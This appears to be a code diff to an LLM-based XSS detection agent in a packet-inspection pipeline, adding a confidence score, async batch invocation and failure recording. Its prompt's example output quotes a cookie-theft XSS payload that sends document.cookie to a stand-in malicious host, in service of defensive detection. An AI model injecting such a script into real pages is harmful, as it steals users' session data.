@@ -1,13 +1,23 @@
+from functools import cache
+from typing import List
 from utils.models import ParallelState
+from utils.metrics import record_failure
 from langchain.prompts import ChatPromptTemplate
 from langchain.output_parsers import ResponseSchema, StructuredOutputParser
-from agents.base import llm
+from agents.base import get_llm
+from utils.packet_prompt import render_packet
+from utils.scheduler import parse_confidence, parse_detected, report_agent_verdict
 
 xss_schema = [
     ResponseSchema(
         name="xss_detected",
         description="Either 'YES' if XSS is detected or 'NO' if not"
     ),
+    ResponseSchema(
+        name="confidence",
+        description="How certain you are of the verdict, from 0 (guessing) to 1 (certain)",
+        type="number"
+    ),
     ResponseSchema(
         name="details",
         description="Detailed analysis of the packet's potential XSS vulnerabilities"
@@ -48,12 +58,14 @@ Examine the packet carefully for XSS patterns. Your response must be structured
 Example Response 1 (Attack Detected):
 {{
     "xss_detected": "YES",
+    "confidence": 0.95,
     "details": "Detected malicious XSS payload in packet. Found script: '<script>document.cookie.send('https://malicious.site')</script>'. This is a cookie theft attack attempting to exfiltrate session data to an external domain. The script directly accesses document.cookie and attempts unauthorized data transmission."
 }}
 
 Example Response 2 (No Attack):
 {{
     "xss_detected": "NO",
+    "confidence": 0.9,
     "details": "No XSS attack patterns detected in packet payload. Payload was examined for script injection, event handlers, and encoded malicious content - none were found."
 }}
 
@@ -68,24 +80,53 @@ Remember:
 {format_instructions}
 """
 
-prompt = ChatPromptTemplate.from_template(template=TEMPLATE)
 xss_parser = StructuredOutputParser.from_response_schemas(xss_schema)
-
-def xss_agent(state: ParallelState):
-  packet = state.packet
-
-  chain = prompt | llm | xss_parser
+# the format instructions never change, so they are baked into the prompt once
+prompt = ChatPromptTemplate.from_template(template=TEMPLATE).partial(format_instructions=xss_parser.get_format_instructions())
+
+XSS_ERROR_MSG = "Error invoking the chain. Ignore the output of the XSS Agent feedback for the final evaluation."
+
+@cache
+def _chain():
+  # built on first use rather than at import since the LLM client is created lazily
+  return prompt | get_llm() | xss_parser
+
+def _xss_inputs(state: ParallelState):
+  packet, _, _ = render_packet(state.packet, "xss")
+  return {"packet": packet}
+
+def _xss_update(res):
+  print("xss agent response: ", res)
+  print("xxs detected??: ", res["xss_detected"])
+  detected = parse_detected(res["xss_detected"])
+  confidence = parse_confidence(res.get("confidence"))
+  report_agent_verdict("xss_agent", detected, confidence, str(res["details"]))
+  return {"xss_agent_msg": str(res["details"]), "xss_detected": detected, "xss_confidence": confidence}
+
+async def xss_agent(state: ParallelState):
+  chain = _chain()
   try:
-    res = chain.invoke({
-      "packet": packet,
-      "format_instructions": xss_parser.get_format_instructions()
-    })
-    print("xss agent response: ", res)
-    print("xxs detected??: ", res["xss_detected"])
-    return {"xss_agent_msg": str(res["details"])}
+    res = await chain.ainvoke(_xss_inputs(state))
+    return _xss_update(res)
 
   except Exception as e:
     print("ERROR invoking the chain in xss_agent:", e)
-    return {"xss_agent_msg": "Error invoking the chain. Ignore the output of the XSS Agent feedback for the final evaluation."}
-
-
+    record_failure("xss_agent", e)
+    return {"xss_agent_msg": XSS_ERROR_MSG}
+
+async def xss_agent_batch(states: List[ParallelState], max_concurrency: int = None):
+  chain = _chain()
+  results = await chain.abatch(
+    [_xss_inputs(state) for state in states],
+    config={"max_concurrency": max_concurrency},
+    return_exceptions=True,
+  )
+  updates = []
+  for res in results:
+    if isinstance(res, Exception):
+      print("ERROR invoking the chain in xss_agent_batch:", res)
+      record_failure("xss_agent", res)
+      updates.append({"xss_agent_msg": XSS_ERROR_MSG})
+    else:
+      updates.append(_xss_update(res))
+  return updates